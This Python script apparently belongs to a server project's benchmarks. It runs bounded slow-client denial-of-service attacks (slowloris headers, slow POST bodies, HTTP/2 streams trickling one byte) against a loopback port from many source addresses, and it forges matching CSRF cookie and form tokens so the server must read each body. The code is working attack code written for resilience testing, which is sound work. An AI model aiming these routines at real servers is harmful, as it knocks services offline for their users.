#!/usr/bin/env python3
"""Bounded slow-client attacks for bench/slowloris.sh, from many loopback
source addresses (slowhttptest cannot choose its source address).

    slowloris.py MODE PORT CONNECTIONS ADDRESSES SECONDS

MODE is one of:
  head  each connection sends a request line, then one 24-byte header line
        every 10 s, and never finishes its head (slowloris);
  body  each connection sends a whole POST head (with a CSRF cookie and the
        start of a form holding the same token, so that the server must read
        the body to check it) declaring a 1,000-byte body, then one byte
        every 15 s (the slow-body attack);
  h2    HTTP/2 with prior knowledge (h2c): each connection opens 64 streams,
        each a POST like the above whose body is one byte every 15 s.

Connections are spread over ADDRESSES source addresses (127.0.1.1, ...),
opened at most 200 a second (a tenth of them a second when there are more
than 2,000), and reopened when the server closes them.
Everything stops after SECONDS. Prints a line of counts every second and a
last line "end: ...".
"""

import asyncio
import random
import string
import struct
import sys
import time

mode, port, n, n_addrs, seconds = (
    sys.argv[1],
    int(sys.argv[2]),
    int(sys.argv[3]),
    int(sys.argv[4]),
    float(sys.argv[5]),
)
addrs = [f"127.{1 + i // 65024}.{1 + (i // 254) % 256}.{1 + i % 254}" for i in range(max(1, n_addrs))]
stop = time.monotonic() + seconds
stats = {"open": 0, "opened": 0, "closed": 0, "failed": 0, "answers": {}}
# Any well-formed token passes the double-submit check when cookie and form agree.
CSRF = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFG"


def answered(data):
    """Counts the status of an HTTP/1.1 answer, if data starts one."""
    if data.startswith(b"HTTP/1.1 "):
        code = data[9:12].decode(errors="replace")
        stats["answers"][code] = stats["answers"].get(code, 0) + 1


async def wait_or_read(reader, delay):
    """Sleeps `delay` seconds; returns the bytes the server sent if it sent
    any (an answer, or b"" when it closed) in the meantime, else None."""
    try:
        return await asyncio.wait_for(reader.read(4096), delay)
    except asyncio.TimeoutError:
        return None


async def slow_head(r, w, i):
    w.write(f"GET /?{i} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n".encode())
    await w.drain()
    while time.monotonic() < stop:
        data = await wait_or_read(r, 10)
        if data is not None:
            answered(data)
            return
        k = "".join(random.choices(string.ascii_letters, k=10))
        w.write(f"X-{k}: {k}{k[:9]}\r\n".encode())  # 24 bytes
        await w.drain()


async def slow_body(r, w, i):
    w.write(
        (
            f"POST /login?{i} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowbody\r\n"
            f"Cookie: mantissa_csrf={CSRF}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: 1000\r\n\r\ncsrf_token={CSRF}&username="
        ).encode()
    )
    await w.drain()
    while time.monotonic() < stop:
        data = await wait_or_read(r, 15)
        if data is not None:
            answered(data)
            return
        w.write(b"a")
        await w.drain()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """An HPACK header field, literal without indexing, plain strings."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


async def slow_h2(r, w, i):
    w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))  # preface, SETTINGS
    for s in range(64):
        stream = 1 + 2 * s
        block = b"".join(
            literal(k, v)
            for k, v in [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", f"/login?{i}-{s}"),
                (":authority", "127.0.0.1"),
                ("content-type", "application/x-www-form-urlencoded"),
                ("cookie", f"mantissa_csrf={CSRF}"),
            ]
        )
        w.write(frame(1, 4, stream, block))  # HEADERS, END_HEADERS
        w.write(frame(0, 0, stream, f"csrf_token={CSRF}&username=".encode()))
    await w.drain()
    buffered = b""
    while time.monotonic() < stop:
        data = await wait_or_read(r, 15)
        if data == b"":
            return
        if data:
            buffered += data
            # Acknowledge the server's SETTINGS, answer its PINGs, count
            # HEADERS frames (answers) and GOAWAY.
            while len(buffered) >= 9:
                length = int.from_bytes(buffered[:3], "big")
                if len(buffered) < 9 + length:
                    break
                kind, flags = buffered[3], buffered[4]
                payload = buffered[9 : 9 + length]
                buffered = buffered[9 + length :]
                if kind == 4 and not flags & 1:
                    w.write(frame(4, 1, 0))
                elif kind == 6 and not flags & 1:
                    w.write(frame(6, 1, 0, payload))
                elif kind == 1:
                    stats["answers"]["h2"] = stats["answers"].get("h2", 0) + 1
                elif kind == 7:
                    return
            continue
        for s in range(64):
            w.write(frame(0, 0, 1 + 2 * s, b"a"))
        await w.drain()


attack = {"head": slow_head, "body": slow_body, "h2": slow_h2}[mode]


async def one(i):
    src = addrs[i % len(addrs)]
    while time.monotonic() < stop:
        try:
            r, w = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port, local_addr=(src, 0)), 5
            )
        except (OSError, asyncio.TimeoutError):
            stats["failed"] += 1
            await asyncio.sleep(1)
            continue
        stats["open"] += 1
        stats["opened"] += 1
        try:
            await attack(r, w, i)
        except (OSError, ConnectionError):
            pass
        finally:
            stats["open"] -= 1
            stats["closed"] += 1
            w.close()
        await asyncio.sleep(0.1)


def counts():
    answers = ", ".join(f"{k}×{v}" for k, v in sorted(stats["answers"].items())) or "none"
    return (
        f"open {stats['open']}, opened {stats['opened']}, closed {stats['closed']},"
        f" failed {stats['failed']}, answers {answers}"
    )


async def main():
    async def report():
        t0 = time.monotonic()
        while time.monotonic() < stop + 1:
            await asyncio.sleep(1)
            print(f"{time.monotonic() - t0:.0f} s: {counts()}", flush=True)

    rep = asyncio.create_task(report())
    tasks = []
    rate = max(200, n // 10)  # new connections a second
    for i in range(n):
        tasks.append(asyncio.create_task(one(i)))
        if i % rate == rate - 1:
            await asyncio.sleep(1)
    await asyncio.gather(*tasks)
    rep.cancel()
    print(f"end: {counts()}", flush=True)


asyncio.run(main())
